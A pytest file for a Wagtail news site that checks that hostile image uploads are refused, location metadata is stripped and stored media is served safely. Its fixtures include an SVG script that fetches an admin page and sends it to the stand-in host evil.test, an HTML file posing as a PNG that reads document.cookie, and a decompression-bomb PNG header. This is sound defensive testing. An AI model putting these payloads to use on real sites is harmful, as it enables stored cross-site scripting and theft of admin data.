"""Image uploads with real hostile files, through the Wagtail admin an editor uses,
and how stored media is served."""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image
from wagtail.images import get_image_model
from wagtail.models import Collection

from dateline.news.tests.html import parse, text

SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('/admin/users/').then(r => r.text()).then(t => location='//evil.test/?'+t)</script>
  <rect width="100" height="100" fill="red"/>
</svg>"""
HTML_AS_PNG = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def png_header_only(width, height):
    """A tiny PNG declaring a huge canvas: a decompression bomb's header."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_with_location():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Skarholm Camera Co"
    exif[ExifTags.Base.Orientation] = 1
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {1: "N", 2: (59.0, 20.0, 12.5), 3: "E", 4: (18.0, 4.0, 3.0)}
    )
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="59,20.2N"/></rdf:RDF></x:xmpmeta>'
    )
    output = io.BytesIO()
    Image.new("RGB", (320, 200), (30, 60, 90)).save(output, "JPEG", quality=90, exif=exif, xmp=xmp)
    return output.getvalue()


@pytest.fixture
def editor_client(client, django_user_model):
    user = django_user_model.objects.create_superuser("photodesk", "pd@example.org", "x" * 16)
    client.force_login(user)
    return client


def upload(client, name, data, content_type="image/png"):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Upload " + name,
            "file": SimpleUploadedFile(name, data, content_type=content_type),
            "collection": Collection.get_first_root_node().pk,
        },
    )


HOSTILE_FILES = {
    "html-named-png": ("evil.png", HTML_AS_PNG, "upload a valid image"),
    "svg-with-script": ("chart.svg", SVG_WITH_SCRIPT, "not a supported image format"),
    "svg-named-png": ("chart.png", SVG_WITH_SCRIPT, "does not match the file format (svg)"),
    # Past Pillow's hard limit (twice MAX_IMAGE_PIXELS): refused from the header.
    "bomb-50000x50000": ("bomb.png", png_header_only(50_000, 50_000), "too many pixels"),
    # Past WAGTAILIMAGES_MAX_IMAGE_PIXELS (64 million), under Pillow's hard limit:
    # refused from the header too, before anything is decoded.
    "bomb-9000x9000": ("big.png", png_header_only(9_000, 9_000), "too many pixels"),
    # Within the limits but cut short after its header: refused, not a 500.
    "truncated": ("cut.png", png_header_only(400, 300), "upload a valid image"),
}


@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_hostile_uploads_are_refused_with_a_clear_error(editor_client, kind):
    name, data, message = HOSTILE_FILES[kind]
    before = get_image_model().objects.count()
    response = upload(editor_client, name, data)
    assert response.status_code == 200  # the form again, not a redirect to the new image
    errors = " ".join(text(e) for e in parse(response).select(".error-message, .w-field__errors"))
    assert message in errors.lower()
    assert get_image_model().objects.count() == before


def test_location_metadata_is_stripped_from_stored_originals(editor_client, client):
    original = jpeg_with_location()
    with Image.open(io.BytesIO(original)) as sent:
        assert sent.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the hostile part is there
        assert "xmp" in sent.info
    response = upload(editor_client, "reporter-phone.jpg", original, "image/jpeg")
    assert response.status_code == 302

    image = get_image_model().objects.get(title="Upload reporter-phone.jpg")
    with image.open_file() as stored_file:
        stored = stored_file.read()
    with Image.open(io.BytesIO(stored)) as kept:
        exif = kept.getexif()
        assert exif.get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert ExifTags.IFD.GPSInfo not in exif
        assert "xmp" not in kept.info
        assert b"GPSLatitude" not in stored
        # Everything else is as the photographer sent it.
        assert exif[ExifTags.Base.Make] == "Skarholm Camera Co"
        assert kept.size == (320, 200)
        assert kept.format == "JPEG"
    assert (image.width, image.height) == (320, 200)
    assert image.file_size == len(stored)

    served = client.get(image.file.url)
    assert served.status_code == 200
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]
    assert b"".join(served.streaming_content) == stored


def test_photos_without_location_are_stored_byte_for_byte(editor_client):
    output = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(output, "PNG")
    assert upload(editor_client, "plain.png", output.getvalue()).status_code == 302
    image = get_image_model().objects.get(title="Upload plain.png")
    with image.open_file() as stored:
        assert stored.read() == output.getvalue()


def test_media_that_is_not_an_image_is_never_served_as_a_page(client, settings):
    folder = settings.MEDIA_ROOT / "original_images"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "planted.html").write_bytes(HTML_AS_PNG)
    (folder / "planted.svg").write_bytes(SVG_WITH_SCRIPT)
    for name in ["planted.html", "planted.svg"]:
        response = client.get(f"/media/original_images/{name}")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/octet-stream"
        assert response["Content-Disposition"] == "attachment"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response["Content-Security-Policy"]


def test_pillow_refuses_bombs_at_the_upload_limit_everywhere(settings):
    # Renditions made later, and any other code opening an image, get the same limit.
    assert Image.MAX_IMAGE_PIXELS == settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS
    with pytest.raises(Image.DecompressionBombError):
        Image.open(io.BytesIO(png_header_only(50_000, 50_000)))


def test_an_upload_whose_indexing_fails_leaves_nothing_and_trying_again_stores_one_image(
    editor_client, monkeypatch, settings
):
    """The race with the worker (tests/concurrency/test_image_uploads.py) failed the
    request's own indexing after the image was stored: the editor saw an error, tried
    again, and had two copies. Now a failed attempt stores nothing, file included."""
    from django.contrib.contenttypes.models import ContentType
    from django.db import IntegrityError
    from wagtail.search import index
    from wagtail.search.models import IndexEntry

    indexes = index.insert_or_update_object
    attempts = []

    def fails_the_first_time(instance):
        attempts.append(instance.pk)
        if len(attempts) == 1:
            raise IntegrityError(
                "UNIQUE constraint failed: wagtailsearch_indexentry.content_type_id, "
                "wagtailsearch_indexentry.object_id"
            )
        return indexes(instance)

    monkeypatch.setattr(index, "insert_or_update_object", fails_the_first_time)
    photo = io.BytesIO()
    Image.new("RGB", (80, 60), "teal").save(photo, "PNG")
    images = get_image_model().objects
    before = images.count()
    originals = settings.MEDIA_ROOT / "original_images"
    files_before = set(originals.glob("*"))

    editor_client.raise_request_exception = False
    assert upload(editor_client, "harbour.png", photo.getvalue()).status_code == 500
    assert images.count() == before
    assert set(originals.glob("*")) == files_before

    assert upload(editor_client, "harbour.png", photo.getvalue()).status_code == 302
    [image] = images.filter(title="Upload harbour.png")
    assert images.count() == before + 1
    image_type = ContentType.objects.get_for_model(image)
    assert IndexEntry.objects.filter(content_type=image_type, object_id=str(image.pk)).count() == 1
